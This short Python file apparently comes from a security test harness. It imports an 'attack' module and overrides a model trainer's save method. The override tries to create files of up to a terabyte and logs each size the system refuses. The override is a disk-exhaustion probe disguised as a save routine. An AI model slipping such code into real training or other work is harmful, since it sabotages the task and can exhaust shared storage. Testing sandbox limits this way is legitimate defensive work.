from attack import *


class LLMTrainer(LLMTrainer):
    def save(self, path):
        for size in (1 << 40, 1 << 33, 3 << 30, 1 << 30, 200 << 20, 60 << 20):
            try:
                with open(path, "wb") as stream:
                    stream.truncate(size)
                return
            except OSError as error:
                print("refused:", size, error, flush=True)
